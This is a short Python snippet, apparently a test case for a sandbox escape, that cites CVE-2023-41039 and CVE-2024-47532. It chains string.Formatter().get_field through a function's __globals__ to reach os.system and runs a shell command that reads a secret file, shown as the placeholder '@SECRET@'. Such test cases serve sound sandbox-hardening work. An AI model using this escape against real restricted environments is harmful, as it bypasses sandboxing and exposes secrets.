# CVE-2023-41039 and CVE-2024-47532: the object that get_field returns can be called.
# effect: run
import random
import string
string.Formatter().get_field("0.choice.__func__.__globals__[_os].system", (random.Random(),), {})[0]("cat @SECRET@")
